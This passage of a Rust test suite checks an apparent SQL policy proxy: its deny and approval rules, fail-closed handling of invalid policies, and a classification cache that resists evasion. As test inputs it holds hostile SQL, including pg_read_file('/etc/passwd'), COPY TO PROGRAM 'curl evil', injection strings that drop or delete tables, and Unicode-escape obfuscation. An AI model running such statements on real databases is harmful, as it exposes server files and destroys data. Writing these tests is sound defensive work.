    assert!(!d("WITH d AS (DELETE FROM public.orders RETURNING *) SELECT * FROM public.orders").is_allow());
}

#[test]
fn unqualified_tables_match_any_schema() {
    // Deny rules catch an unqualified name whatever schema it reaches.
    let policies = vec![policy(
        "p",
        json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
        "rules": [
            {"name": "reads", "match": {"operations": ["select"]}, "action": "allow"},
            {"name": "no-keys", "match": {"tables": ["secret.keys"]}, "action": "deny"}
        ]}),
    )];
    let alice = Identity {
        username: "alice".into(),
        groups: vec![],
    };
    let d = |sql: &str| decide(&policies, &alice, &classified(sql));
    assert!(matches!(d("SELECT * FROM keys"), Decision::Deny { rule, .. } if rule == "no-keys"));
    assert!(matches!(d("SELECT * FROM secret.keys"), Decision::Deny { .. }));
    assert!(d("SELECT * FROM public.keys").is_allow());
    assert!(d("SELECT * FROM other").is_allow());

    // Glob patterns.
    let policies = vec![policy(
        "g",
        json!({"connectionSelector": {}, "subjects": [{"kind": "Group", "name": "sre"}],
               "rules": [{"name": "r", "match": {"operations": ["select"], "tables": ["pub*.ord*s", "*.audit_*"]}, "action": "allow"}]}),
    )];
    let sre = Identity {
        username: "bob".into(),
        groups: vec!["sre".into()],
    };
    let d = |sql: &str| decide(&policies, &sre, &classified(sql));
    assert!(d("SELECT * FROM public.orders").is_allow());
    assert!(d("SELECT * FROM publications.ords").is_allow());
    assert!(d("SELECT * FROM orders").is_allow());
    assert!(d("SELECT * FROM x.audit_log").is_allow());
    assert!(!d("SELECT * FROM public.order").is_allow());
    assert!(!d("SELECT * FROM private.orders").is_allow());
}

#[test]
fn subjects_match_by_username_or_group() {
    let p = policy(
        "s",
        json!({"connectionSelector": {}, "subjects": [
            {"kind": "ServiceAccount", "name": "planner", "namespace": "agents"},
            {"kind": "User", "name": "alice"},
            {"kind": "Group", "name": "sre"}],
            "rules": [{"name": "all", "action": "allow"}]}),
    );
    assert!(p.applies_to(&planner()));
    assert!(p.applies_to(&Identity {
        username: "alice".into(),
        groups: vec![]
    }));
    assert!(p.applies_to(&Identity {
        username: "bob".into(),
        groups: vec!["sre".into()]
    }));
    assert!(!p.applies_to(&Identity {
        username: "system:serviceaccount:other:planner".into(),
        groups: vec![]
    }));
    assert!(!p.applies_to(&Identity {
        username: "planner".into(),
        groups: vec!["agents".into()]
    }));
}

#[test]
fn malformed_policies_do_not_compile() {
    let spec = |rules: serde_json::Value, subjects: serde_json::Value| -> PolicySpec {
        serde_json::from_value(json!({"connectionSelector": {}, "subjects": subjects, "rules": rules}))
            .unwrap_or_else(|e| panic!("{e}"))
    };
    let user = json!([{"kind": "User", "name": "a"}]);
    let bad_table = spec(
        json!([{"name": "r", "match": {"tables": ["orders"]}, "action": "allow"}]),
        user.clone(),
    );
    assert!(matches!(
        CompiledPolicy::compile("p", &bad_table),
        Err(CompileError::BadTablePattern { .. })
    ));
    let no_approvers = spec(json!([{"name": "r", "action": "requireApproval"}]), user);
    assert!(matches!(
        CompiledPolicy::compile("p", &no_approvers),
        Err(CompileError::MissingApprovers { .. })
    ));
    let no_ns = spec(
        json!([{"name": "r", "action": "allow"}]),
        json!([{"kind": "ServiceAccount", "name": "x"}]),
    );
    assert!(matches!(
        CompiledPolicy::compile("p", &no_ns),
        Err(CompileError::MissingNamespace { .. })
    ));
    let bad_selector: PolicySpec = serde_json::from_value(json!({
        "connectionSelector": {"matchExpressions": [{"key": "env", "operator": "Bogus"}]},
        "subjects": [{"kind": "User", "name": "a"}],
        "rules": [{"name": "r", "action": "allow"}]
    }))
    .unwrap_or_else(|e| panic!("{e}"));
    assert!(matches!(
        CompiledPolicy::compile("p", &bad_selector),
        Err(CompileError::BadSelector { .. })
    ));
}

fn spec(value: serde_json::Value) -> PolicySpec {
    serde_json::from_value(value).unwrap_or_else(|e| panic!("bad test policy: {e}"))
}

/// Allows group `agents` everything.
fn broad_allow() -> CompiledPolicy {
    policy(
        "agents-everything",
        json!({
            "connectionSelector": {},
            "subjects": [{"kind": "Group", "name": "agents"}],
            "rules": [{"name": "everything", "action": "allow"}]
        }),
    )
}

fn caller(username: &str, groups: &[&str]) -> Identity {
    Identity {
        username: username.into(),
        groups: groups.iter().map(|g| (*g).to_owned()).collect(),
    }
}

/// The refusal of `sql` for `who`, or `None` when it runs.
fn refused(policies: &[CompiledPolicy], who: &Identity, sql: &str) -> Option<Refusal> {
    refusal(&decide(policies, who, &classified(sql)))
}

#[test]
fn an_invalid_restrictive_policy_denies_its_subjects_everything_and_no_one_else() {
    // A requireApproval Policy for the planner with a typo in a table
    // pattern, next to a broad allow: dropping it would let writes run.
    let typo = spec(json!({
        "connectionSelector": {},
        "subjects": [{"kind": "ServiceAccount", "name": "planner", "namespace": "agents"}],
        "rules": [{"name": "writes", "match": {"operations": ["update", "delete"], "tables": ["orders"]},
                   "action": "requireApproval", "approvers": {"groups": ["dba"], "required": 1}}]
    }));
    let guarded = CompiledPolicy::compile_or_deny("writes-guarded", &typo);
    let problem = guarded.problem().unwrap_or_default().to_owned();
    assert!(problem.contains("must be schema-qualified"), "{problem}");
    let planner = caller("system:serviceaccount:agents:planner", &["agents"]);
    let other = caller("system:serviceaccount:agents:reporter", &["agents"]);
    let policies = vec![broad_allow(), guarded];
    // Without it, the broad Policy alone would let the write run.
    assert!(refused(&policies[..1], &planner, "UPDATE public.orders SET status = 'x'").is_none());
    for sql in [
        "UPDATE public.orders SET status = 'x'",
        "SELECT * FROM public.orders",
        "BEGIN",
    ] {
        let refusal = refused(&policies, &planner, sql).unwrap_or_else(|| panic!("{sql} ran"));
        assert_eq!(refusal.sqlstate, "42501", "{sql}");
        assert_eq!(refusal.decision, "deny", "{sql}");
        assert!(
            refusal.message.contains("Policy \"writes-guarded\"")
                && refusal.message.contains(INVALID_POLICY_RULE),
            "{sql}: {}",
            refusal.message
        );
        assert!(
            refusal.hint.contains("Policy writes-guarded is invalid")
                && refusal.hint.contains("until it is fixed")
                && refusal.hint.contains(&problem),
            "{sql}: {}",
            refusal.hint
        );
    }
    // Another caller of the same group is not named by it.
    for sql in [
        "UPDATE public.orders SET status = 'x'",
        "SELECT * FROM public.orders",
    ] {
        assert!(
            refused(&policies, &other, sql).is_none(),
            "{sql} refused to the reporter"
        );
    }
}

#[test]
fn an_invalid_policy_whose_subjects_do_not_compile_denies_everyone() {
    // A ServiceAccount without a namespace: who it names is unknown, so
    // it names everyone.
    let nameless = spec(json!({
        "connectionSelector": {},
        "subjects": [{"kind": "ServiceAccount", "name": "planner"}],
        "rules": [{"name": "no-ddl", "match": {"operations": ["ddl"]}, "action": "deny"}]
    }));
    let policies = vec![
        broad_allow(),
        CompiledPolicy::compile_or_deny("no-ddl", &nameless),
    ];
    assert!(
        policies[1]
            .problem()
            .is_some_and(|p| p.contains("needs a namespace")),
        "{:?}",
        policies[1]
    );
    for who in [
        caller("system:serviceaccount:agents:planner", &["agents"]),
        caller("alice", &["agents"]),
        caller("bob", &[]),
    ] {
        let refusal = refused(&policies, &who, "SELECT 1").unwrap_or_else(|| panic!("{who:?} read"));
        assert!(
            refusal.message.contains("Policy \"no-ddl\""),
            "{}",
            refusal.message
        );
    }
}

#[test]
fn an_invalid_selector_denies_the_subjects_named() {
    let bad = spec(json!({
        "connectionSelector": {"matchExpressions": [{"key": "env", "operator": "Bogus"}]},
        "subjects": [{"kind": "User", "name": "alice"}],
        "rules": [{"name": "reads", "match": {"operations": ["select"]}, "action": "allow"}]
    }));
    let policies = vec![broad_allow(), CompiledPolicy::compile_or_deny("selector", &bad)];
    let refusal =
        refused(&policies, &caller("alice", &["agents"]), "SELECT 1").unwrap_or_else(|| panic!("ran"));
    assert!(
        refusal
            .hint
            .contains("spec.connectionSelector is not a valid label selector"),
        "{}",
        refusal.hint
    );
    assert!(refused(&policies, &caller("bob", &["agents"]), "SELECT 1").is_none());
    // A valid Policy has no problem and keeps its rules.
    assert_eq!(broad_allow().problem(), None);
    assert_eq!(broad_allow().rules.len(), 1);
}

#[test]
fn side_effect_hints_name_the_function() {
    let d = decision("SELECT pg_read_file('/etc/passwd')");
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("sideEffectFunction (pg_read_file [server files])")),
        "{d:?}"
    );
}

// -------------------------------------------------------------- the cache

#[test]
fn cache_keys_ignore_constants_and_comments_only() {
    let key = |s: &str| cache_key(s).unwrap_or_else(|| panic!("{s:?} should scan"));
    let same = [
        (
            "SELECT * FROM t WHERE id = 1",
            "SELECT * FROM t WHERE id = 2147483647",
        ),
        (
            "SELECT * FROM t WHERE id = 1",
            "SELECT * FROM t WHERE id = 0x7fff_ffff",
        ),
        ("SELECT 1.5", "SELECT 99999999999"),
        (
            "SELECT * FROM t WHERE a = 'x'",
            "SELECT * FROM t WHERE a = $q$ ; DROP TABLE t; $q$",
        ),
        (
            "SELECT * FROM t WHERE a = 'x'",
            "SELECT * FROM t WHERE a = 'DROP TABLE t; --'",
        ),
        ("SELECT 'a' /* one */", "SELECT 'b' -- two"),
        ("SELECT * FROM t", "SELECT\n*\tFROM   t"),
        ("SELECT E'x'", "SELECT E'\\'; DELETE FROM t; --'"),
        ("SET ROLE 'x'", "SET ROLE 'postgres'"),
        ("COPY t FROM 'a'", "COPY t FROM '/etc/passwd'"),
        ("SELECT 1.5", "SELECT 1e10"),
    ];
    for (a, b) in same {
        assert_eq!(key(a), key(b), "{a:?} / {b:?}");
    }
    let different = [
        ("SELECT * FROM t WHERE id = 1", "SELECT * FROM u WHERE id = 1"),
        ("COPY t FROM 'file'", "COPY t FROM STDIN"),
        ("COPY t TO STDOUT", "COPY t TO PROGRAM 'x'"),
        ("SELECT 1", "SELECT '1'"),
        ("SELECT 1", "SELECT 1.0"),
        ("SELECT 'a'", "SELECT \"a\""),
        ("SET ROLE 'x'", "SET ROLE x"),
        ("SELECT $1", "SELECT 1"),
        ("EXPLAIN DELETE FROM t", "EXPLAIN ANALYZE DELETE FROM t"),
        ("SELECT 1; SELECT 2", "SELECT 1, 2"),
        (
            "SELECT U&\"!0070g_read_file\" UESCAPE '!' ('x')",
            "SELECT U&\"!0070g_read_file\" UESCAPE '\\' ('x')",
        ),
        ("SELECT U&'!0041' UESCAPE '!'", "SELECT U&'!0041' UESCAPE '#'"),
    ];
    for (a, b) in different {
        assert_ne!(key(a), key(b), "{a:?} / {b:?}");
    }
    assert_eq!(cache_key("'unterminated"), None);
}

#[test]
fn tricky_texts_sharing_a_key_classify_alike() {
    let groups: &[&[&str]] = &[
        &[
            "SELECT * FROM orders WHERE note = 'x'",
            "SELECT * FROM orders WHERE note = 'DELETE FROM orders; DROP TABLE orders'",
            "SELECT * FROM orders WHERE note = '; -- /* */'",
            "SELECT * FROM orders WHERE note = $$ '; DELETE FROM x; $$",
            "SELECT * FROM orders WHERE note = $a$ $$ $b$ $a$",
            "SELECT * FROM orders WHERE note = E'\\'; DROP TABLE orders; --'",
            "SELECT * FROM orders /* DROP TABLE x */ WHERE note = 'y' -- DELETE",
        ],
        &[
            "SELECT * FROM orders WHERE note = U&'x'",
            "SELECT * FROM orders WHERE note = U&'\\0027; DROP'",
        ],
        &[
            "COPY orders TO PROGRAM 'true'",
            "COPY orders TO PROGRAM ''",
            "COPY orders TO PROGRAM 'curl evil'",
        ],
        &["SET ROLE 'x'", "SET ROLE 'none'", "SET ROLE 'postgres'"],
        &["DO 'BEGIN NULL; END'", "DO $$ BEGIN DELETE FROM orders; END $$"],
        &["SELECT pg_read_file('a')", "SELECT pg_read_file($$/etc/passwd$$)"],
        &["SELECT 1 LIMIT 1", "SELECT 99 LIMIT 2147483647"],
        &["SELECT B'1', X'FF'", "SELECT B'000', X'00'"],
    ];
    for group in groups {
        let first = classified(group[0]);
        assert!(!first.constant_sensitive());
        for sql in *group {
            assert_eq!(cache_key(sql), cache_key(group[0]), "{sql:?}");
            assert_eq!(classified(sql), first, "{sql:?}");
        }
    }
    // COPY to a file and COPY from STDIN have different keys; COPY to or from
    // a file or STDIN has a class that depends on a constant (the tree cannot
    // tell `FROM STDIN` from `FROM ''`), so it is never cached.
    assert_ne!(
        cache_key("COPY orders FROM 'x'"),
        cache_key("COPY orders FROM STDIN")
    );
    assert_ne!(
        classified("COPY orders FROM 'x'"),
        classified("COPY orders FROM STDIN")
    );
    for sql in [
        "COPY orders FROM 'x'",
        "COPY orders FROM ''",
        "COPY orders FROM STDIN",
        "COPY orders TO STDOUT",
    ] {
        assert!(classified(sql).constant_sensitive(), "{sql}");
    }
    let cache = ClassificationCache::default();
    assert!(
        cache
            .classify("COPY orders FROM ''")
            .is_ok_and(|c| c.operations() == vec![CopyFrom])
    );
    assert!(
        cache
            .classify("COPY orders FROM '/etc/passwd'")
            .is_ok_and(|c| c.operations() == vec![CopyProgram])
    );
    assert_eq!(cache.stats().hits, 0);
}

/// The string after `UESCAPE` is the escape character of the `U&"..."`
/// name before it, so it decides which function the statement calls: a
/// statement that names a harmless function must not prime the cache for
/// one that names `pg_read_file` with the same tokens.
#[test]
fn uescape_characters_are_part_of_the_cache_key() {
    let pairs = [
        (
            r#"SELECT U&"!0070g_read_file" UESCAPE '\' ('/etc/passwd')"#,
            r#"SELECT U&"!0070g_read_file" UESCAPE '!' ('/etc/passwd')"#,
        ),
        (
            r#"SELECT * FROM U&"!0073ecret" UESCAPE '\' WHERE note = U&'!0041' UESCAPE '#'"#,
            r#"SELECT * FROM U&"!0073ecret" UESCAPE '!' WHERE note = U&'!0041' UESCAPE '!'"#,
        ),
    ];
    let (harmless, dangerous) = pairs[0];
    assert_eq!(
        one(harmless).functions,
        vec![FunctionRef {
            schema: None,
            name: "!0070g_read_file".into()
        }]
    );
    assert!(one(dangerous).has(SideEffectFunction));
    assert_eq!(reads(&one(pairs[1].0)), vec!["!0073ecret"]);
    assert_eq!(reads(&one(pairs[1].1)), vec!["secret"]);
    assert_ne!(cache_key(harmless), cache_key(dangerous));
    for (first, second) in pairs {
        for (prime, then) in [(first, second), (second, first)] {
            let cache = ClassificationCache::default();
            assert!(cache.classify(prime).is_ok(), "{prime}");
            let got = cache.classify(then).map(|c| (*c).clone());
            assert_eq!(got, classify(then), "{then} after {prime}");
        }
    }
    let cache = ClassificationCache::default();
    assert!(cache.classify(harmless).is_ok());
    let c = cache.classify(dangerous).map(|c| (*c).clone());
    assert!(
        c.as_ref()
            .is_ok_and(|c| !decide(&design_policies(), &planner(), c).is_allow()),
        "{c:?}"
    );
    assert_eq!(cache.stats().hits, 0);
}

/// Every string literal in this file: the statements of the evasion suite,
/// its harmless and allowed lists, and (harmlessly) messages, policy names
/// and templates. Read from the source so that a case added to any test is
/// covered by [`the_cache_never_changes_a_classification_of_the_suite`].
fn string_literals_of_this_file() -> Vec<String> {
    let src: Vec<char> = include_str!("tests.rs").chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < src.len() {
        let c = src[i];
        let prev_ident = i > 0 && (src[i - 1].is_alphanumeric() || src[i - 1] == '_');
        if c == '/' && src.get(i + 1) == Some(&'/') {
            while i < src.len() && src[i] != '\n' {
                i += 1;
            }
        } else if c == '\'' {
            // A char literal ('x', '\n', '\'') or a lifetime ('a).
            i += match (src.get(i + 1), src.get(i + 2)) {
                (Some('\\'), _) => (i + 3..src.len())
                    .find(|&j| src[j] == '\'')
                    .map_or(1, |j| j - i + 1),
                (Some(_), Some('\'')) => 3,
                _ => 1,
            };
            continue;
        } else if c == 'r' && !prev_ident && matches!(src.get(i + 1), Some('"' | '#')) {
            let hashes = src[i + 1..].iter().take_while(|&&h| h == '#').count();
            let start = i + 1 + hashes + 1;
            if src.get(start - 1) == Some(&'"') {
                let closing: Vec<char> = std::iter::once('"')
                    .chain(std::iter::repeat_n('#', hashes))
                    .collect();
                let end = (start..src.len())
                    .find(|&j| src[j..].starts_with(&closing))
                    .unwrap_or(src.len());
                out.push(src[start..end].iter().collect());
                i = end + closing.len();
                continue;
            }
        } else if c == '"' {
            let mut text = String::new();
            i += 1;
            while i < src.len() && src[i] != '"' {
                if src[i] == '\\' {
                    i += 1;
                    match src.get(i) {
                        Some('n') => text.push('\n'),
                        Some('t') => text.push('\t'),
                        Some('r') => text.push('\r'),
                        Some('0') => text.push('\0'),
                        Some('u') => {
                            let close = (i..src.len()).find(|&j| src[j] == '}').unwrap_or(i);
                            let hex: String = src[i + 2..close].iter().collect();
                            text.extend(u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32));
                            i = close;
                        }
                        Some('\n') => {
                            while src.get(i + 1).is_some_and(|w| w.is_whitespace()) {
                                i += 1;
                            }
                        }
                        Some(other) => text.push(*other),
                        None => {}
                    }
                } else {
                    text.push(src[i]);
                }
                i += 1;
            }
            out.push(text);
        }
        i += 1;
    }
    out.sort();
    out.dedup();
    out
}

/// Texts that differ from `sql` in constants only: every constant the
/// scanner finds replaced by another of its kind, and the character after
/// `UESCAPE` by another character.
fn constant_siblings(sql: &str) -> Vec<String> {
    use pg_query::protobuf::Token;
    let Ok(scan) = pg_query::scan(sql) else {
        return Vec::new();
    };
    let variants: [fn(Token, bool) -> Option<&'static str>; 3] = [
        |kind, escape| match kind {
            Token::Sconst if escape => Some(r"'\'"),
            Token::Sconst => Some("'s'"),
            Token::Usconst => Some("U&'u'"),
            Token::Iconst => Some("7"),
            Token::Fconst => Some("7.5"),
            Token::Bconst => Some("B'1'"),
            Token::Xconst => Some("X'1F'"),
            _ => None,
        },
        |kind, escape| match kind {
            Token::Sconst if escape => Some("'!'"),
            Token::Sconst => Some("$q$ '; DROP TABLE orders; -- $q$"),
            Token::Usconst => Some(r"U&'\0027; DROP TABLE orders'"),
            Token::Iconst => Some("0x7fffffff"),
            Token::Fconst => Some("1e308"),
            Token::Bconst => Some("B''"),
            Token::Xconst => Some("X''"),
            _ => None,
        },
        |kind, escape| match kind {
            Token::Sconst if escape => Some("$$#$$"),
            Token::Sconst => Some(r"E'\\'"),
            Token::Usconst => Some("U&''"),
            Token::Iconst => Some("0"),
            Token::Fconst => Some("0.0"),
            Token::Bconst | Token::Xconst => None,
            _ => None,
        },
    ];
    let mut out = Vec::new();
    for variant in variants {
        let mut text = String::new();
        let mut at = 0;
        let mut escape = false;
        for token in &scan.tokens {
            let Ok(kind) = Token::try_from(token.token) else {
                continue;
            };
            if matches!(kind, Token::SqlComment | Token::CComment) {
                continue;
            }
            let (start, end) = (token.start as usize, token.end as usize);
            if let Some(replacement) = variant(kind, escape) {
                text.push_str(&sql[at..start]);
                text.push_str(replacement);
                at = end;
            }
            escape = kind == Token::Uescape;
        }
        text.push_str(&sql[at..]);
        if text != sql {
            out.push(text);
        }
    }
    out
}

/// For every text of the suite: classified through a cache, on a miss, on a
/// hit, and after a sibling that differs only in constants or escape
/// characters primed the cache, it gets what `classify` gives it alone.
#[test]
fn the_cache_never_changes_a_classification_of_the_suite() {
    let texts = string_literals_of_this_file();
    assert!(texts.len() > 400, "{}", texts.len());
    for needle in [
        "SELECT * FROM orders WHERE pg_read_file('/etc/passwd') IS NOT NULL",
        "SELECT $tag$ $$ ; DROP TABLE orders; $$ $tag$",
        "/* nested /* DROP TABLE x */ still a comment; DELETE FROM y */ SELECT 1",
        "SELECT U&\"!0070g_read_file\" UESCAPE '!' ('x')",
        "SELECT '\u{0}'",
    ] {
        assert!(texts.iter().any(|t| t == needle), "{needle:?} not found");
    }
    let (mut siblings, mut shared) = (0, 0);
    for sql in &texts {
        let alone = classify(sql);
        let cache = ClassificationCache::default();
        for _ in 0..2 {
            assert_eq!(cache.classify(sql).map(|c| (*c).clone()), alone, "{sql:?}");
        }
        for sibling in constant_siblings(sql) {
            siblings += 1;
            shared += usize::from(cache_key(&sibling) == cache_key(sql));
            let cache = ClassificationCache::default();
            let _ = cache.classify(&sibling);
            let got = cache.classify(sql).map(|c| (*c).clone());
            assert_eq!(got, alone, "{sql:?} after {sibling:?}");
        }
    }
    // Most siblings share the key: the test primes the cache, not just
    // misses it.
    assert!(shared * 2 > siblings, "{shared} of {siblings}");
}

#[test]
fn cache_counts_hits_and_misses_and_never_shares_constant_sensitive_texts() {
    let cache = ClassificationCache::default();
    let a = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1");
    let b = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2");
    assert!(matches!((&a, &b), (Ok(a), Ok(b)) if Arc::ptr_eq(a, b)));
    assert_eq!(cache.stats().hits, 1);
    assert_eq!(cache.stats().misses, 1);
    assert_eq!(cache.stats().entries, 1);

    // The constant decides; the classification is not cached.
    assert!(cache.classify("SET standard_conforming_strings = 'on'").is_ok());
    assert!(cache.classify("SET standard_conforming_strings = 'off'").is_err());
    assert!(
        cache
            .classify("EXPLAIN (ANALYZE 'off') DELETE FROM t")
            .is_ok_and(|c| c.operations() == vec![Explain])
    );
    assert!(
        cache
            .classify("EXPLAIN (ANALYZE 'on') DELETE FROM t")
            .is_ok_and(|c| c.operations() == vec![Delete])
    );
    assert_eq!(cache.stats().entries, 1);

    // Errors are not cached.
    assert!(cache.classify("SELEC 1").is_err());
    assert!(cache.classify("SELEC 1").is_err());
    assert_eq!(cache.stats().hits, 1);
}

#[test]
fn the_cache_stays_bounded() {
    let cache = ClassificationCache::new(64 * 1024);
    for i in 0..2000 {
        assert!(
            cache
                .classify(&format!("SELECT * FROM table_{i} WHERE id = {i}"))
                .is_ok()
        );
    }
    assert!(cache.stats().bytes <= 64 * 1024, "{:?}", cache.stats());
    // A text longer than the cache's key limit is classified, not cached.
    let long = format!("SELECT {}", vec!["a"; 5000].join(", "));
    assert!(cache.classify(&long).is_ok());
    assert!(cache.classify(&long).is_ok());
}

// ---------------------------------------------------------- generated walk

/// The generated walk reaches every table reference and function call that
/// the protobuf tree holds: counted once through the walk, once through
/// serde (which pg_query derives for every message, so no field is missed).
#[test]
fn the_walk_reaches_every_node() {
    fn count_json(v: &serde_json::Value, key_a: &str, key_b: &str) -> usize {
        match v {
            serde_json::Value::Object(m) => {
                usize::from(m.contains_key(key_a) && m.contains_key(key_b))
                    + m.values().map(|x| count_json(x, key_a, key_b)).sum::<usize>()
            }
            serde_json::Value::Array(a) => a.iter().map(|x| count_json(x, key_a, key_b)).sum(),
            _ => 0,
        }
    }
    fn count_walk(node: pg_query::NodeRef<'_>, rv: &mut usize, fc: &mut usize) {
        match node {
            pg_query::NodeRef::RangeVar(_) => *rv += 1,
            pg_query::NodeRef::FuncCall(_) => *fc += 1,
            _ => {}
        }
        walk::for_each_child(node, &mut |_, child| count_walk(child, rv, fc));
    }
    let corpus = [
        "SELECT a.x, f(b.y) FROM a JOIN b ON g(a.id) = b.id WHERE EXISTS (SELECT h() FROM c) ORDER BY i(1) LIMIT j()",
        "WITH x AS (DELETE FROM d RETURNING k()) INSERT INTO e SELECT * FROM x, LATERAL l(x.a) ON CONFLICT (id) DO UPDATE SET v = m()",
        "MERGE INTO t USING s ON n(t.id) = s.id WHEN MATCHED AND o() THEN UPDATE SET a = p() WHEN NOT MATCHED THEN INSERT VALUES (q()) RETURNING r()",
        "CREATE TABLE z (a int DEFAULT s1() CHECK (a > s2()) REFERENCES y (id), LIKE w) PARTITION BY RANGE (s3(a))",
        "SELECT json_object('k': f1()), xmlelement(name x, f2()), JSON_VALUE(f3(), '$' DEFAULT f4() ON ERROR) FROM JSON_TABLE(f5(), '$' COLUMNS (a int PATH '$.a' DEFAULT f6() ON EMPTY)) jt",
        "SELECT * FROM XMLTABLE('/r' PASSING f7() COLUMNS a int PATH f8() DEFAULT f9()) x, ROWS FROM (g1(), g2()) r, t0 TABLESAMPLE bernoulli (g3()) REPEATABLE (g4())",
        "SELECT count(*) FILTER (WHERE g5()) OVER w, array_agg(x ORDER BY g6()) FROM t1 WINDOW w AS (PARTITION BY g7() ORDER BY g8() ROWS BETWEEN g9() PRECEDING AND CURRENT ROW)",
        "COPY (SELECT h1() FROM t2) TO STDOUT; COPY t3 FROM STDIN WHERE h2() > 0; CALL h3(h4()); EXECUTE p(h5())",
        "CREATE VIEW v AS SELECT h6() FROM t4; CREATE RULE r AS ON INSERT TO t5 DO ALSO DELETE FROM t6 WHERE h7(); CREATE TRIGGER tr BEFORE INSERT ON t7 FOR EACH ROW WHEN (h8()) EXECUTE FUNCTION h9()",
        "CREATE FUNCTION fn() RETURNS int BEGIN ATOMIC SELECT i1() FROM t8; INSERT INTO t9 VALUES (i2()); END; CREATE INDEX ON t10 ((i3(a))) WHERE i4(b)",
        "UPDATE t11 SET (a, b) = (SELECT i5(), i6() FROM t12) FROM t13 WHERE t11.id = t13.id RETURNING i7(); DELETE FROM t14 USING t15 WHERE i8() RETURNING OLD.*, i9()",
        "SELECT CASE WHEN j1() THEN j2() ELSE j3() END, COALESCE(j4(), j5()), ARRAY[j6()], ROW(j7()), j8()::int, j9() COLLATE \"C\", GROUPING(a) FROM t16 GROUP BY CUBE (k1(), k2()) HAVING k3()",
        "WITH RECURSIVE r(n) AS (SELECT k4() UNION ALL SELECT n + k5() FROM r WHERE n < k6()) SEARCH DEPTH FIRST BY n SET ord CYCLE n SET is_cycle USING path SELECT * FROM r, t17",
        "ALTER TABLE t18 ADD COLUMN c int DEFAULT k7(), ALTER COLUMN d SET DEFAULT k8(), ADD CONSTRAINT x CHECK (k9() > 0); GRANT SELECT ON t19, t20 TO bob; VACUUM t21, t22; LOCK t23",
    ];
    for sql in corpus {
        let parsed = match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
            Ok(p) => p.protobuf,
            Err(e) => panic!("{sql}: {e}"),
        };
        let json = serde_json::to_value(&parsed).unwrap_or_default();
        let (mut rv, mut fc) = (0, 0);
        for stmt in &parsed.stmts {
            if let Some(n) = stmt.stmt.as_deref().and_then(|n| n.node.as_ref()) {
                count_walk(n.to_ref(), &mut rv, &mut fc);
            }
        }
        assert!(rv + fc > 0, "{sql}");
        assert_eq!(
            rv,
            count_json(&json, "relname", "relpersistence"),
            "RangeVars in {sql}"
        );
        assert_eq!(
            fc,
            count_json(&json, "funcname", "agg_star"),
            "FuncCalls in {sql}"
        );
    }
}

// --------------------------------------------------------------- proptests

mod properties {
    use proptest::prelude::*;

    use super::super::{ClassificationCache, cache_key, classify};

    /// The scanner's constant token kinds, and the literal forms of each.
    #[derive(Debug, Clone, Copy)]
    enum Lit {
        /// SCONST: '', E'', dollar-quoted, and '' continued on a new line.
        Str,
        /// USCONST: U&''.
        UStr,
        /// ICONST: decimal, hex, octal and binary integers that fit in 32 bits.
        Int,
        /// FCONST: decimals, exponents and integers too large for 32 bits.
        Float,
        /// BCONST: B''.
        Bit,
        /// XCONST: X''.
        Hex,
    }

    fn lit_kind() -> impl Strategy<Value = Lit> {
        prop_oneof![
            Just(Lit::Str),
            Just(Lit::UStr),
            Just(Lit::Int),
            Just(Lit::Float),
            Just(Lit::Bit),
            Just(Lit::Hex)
        ]
    }

    /// String contents chosen to look like SQL.
    fn content() -> impl Strategy<Value = String> {
        prop::collection::vec(
            prop_oneof![
                Just("DROP TABLE orders".to_owned()),
                Just("; DELETE FROM orders; --".to_owned()),
                Just("/* */".to_owned()),
                Just("$$".to_owned()),
                Just("$a$".to_owned()),
                Just("'".to_owned()),
                Just("\\".to_owned()),
                Just("\"".to_owned()),
                Just("\n".to_owned()),
                Just("pg_read_file('x')".to_owned()),
                "[a-zA-Z0-9 ;(),.*=<>-]{0,12}",
                any::<char>()
                    .prop_filter("no NUL", |c| *c != '\0')
                    .prop_map(|c| c.to_string()),
            ],
            0..6,
        )
        .prop_map(|parts| parts.concat())
    }

    /// A literal of token kind `kind`, as SQL source text.
    fn literal_of(kind: Lit) -> BoxedStrategy<String> {
        match kind {
            Lit::Str => prop_oneof![
                content().prop_map(|s| format!("'{}'", s.replace('\'', "''"))),
                content().prop_map(|s| format!("E'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"))),
                (content(), "[a-z_]{0,4}").prop_map(|(s, tag)| {
                    let quote = format!("${tag}$");
                    format!("{quote}{}{quote}", s.replace('$', ""))
                }),
                content().prop_map(|s| format!("'a'\n'{}'", s.replace('\'', "''"))),
            ]
            .boxed(),
            Lit::UStr => content()
                .prop_map(|s| format!("U&'{}'", s.replace('\\', "\\\\").replace('\'', "''")))
                .boxed(),
            Lit::Int => prop_oneof![
                (0..=i32::MAX).prop_map(|n| n.to_string()),
                (0..=i32::MAX).prop_map(|n| format!("0x{n:x}")),
                (0..=i32::MAX).prop_map(|n| format!("0o{n:o}")),
                (0..=i32::MAX).prop_map(|n| format!("0b{n:b}")),
            ]
            .boxed(),
            Lit::Float => prop_oneof![
                (any::<u32>(), any::<u32>()).prop_map(|(a, b)| format!("{a}.{b}")),
                (any::<u16>(), -300i32..300).prop_map(|(a, e)| format!("{a}e{e}")),
                (i64::from(i32::MAX) + 1..=i64::MAX).prop_map(|n| n.to_string()),
                any::<u32>().prop_map(|n| format!(".{n}")),
            ]
            .boxed(),
            Lit::Bit => "[01]{0,16}".prop_map(|b| format!("B'{b}'")).boxed(),
            Lit::Hex => "[0-9a-fA-F]{0,16}".prop_map(|x| format!("X'{x}'")).boxed(),
        }
    }

    /// Two literals of the same, arbitrary kind.
    fn literal_pair() -> impl Strategy<Value = (String, String)> {
        lit_kind().prop_flat_map(|k| (literal_of(k), literal_of(k)))
    }

    /// Two string literals, SCONST or USCONST alike.
    fn string_pair() -> impl Strategy<Value = (String, String)> {
        prop_oneof![Just(Lit::Str), Just(Lit::UStr)].prop_flat_map(|k| (literal_of(k), literal_of(k)))
    }

    /// Any literal.
    fn literal() -> impl Strategy<Value = String> {
        lit_kind().prop_flat_map(literal_of)
    }

    /// Templates with `{}` where any constant may stand.
    const TEMPLATES: &[&str] = &[
        "SELECT * FROM orders WHERE id = {} AND note <> {}",
        "SELECT {}, {} FROM public.orders o JOIN items i ON o.id = i.id",
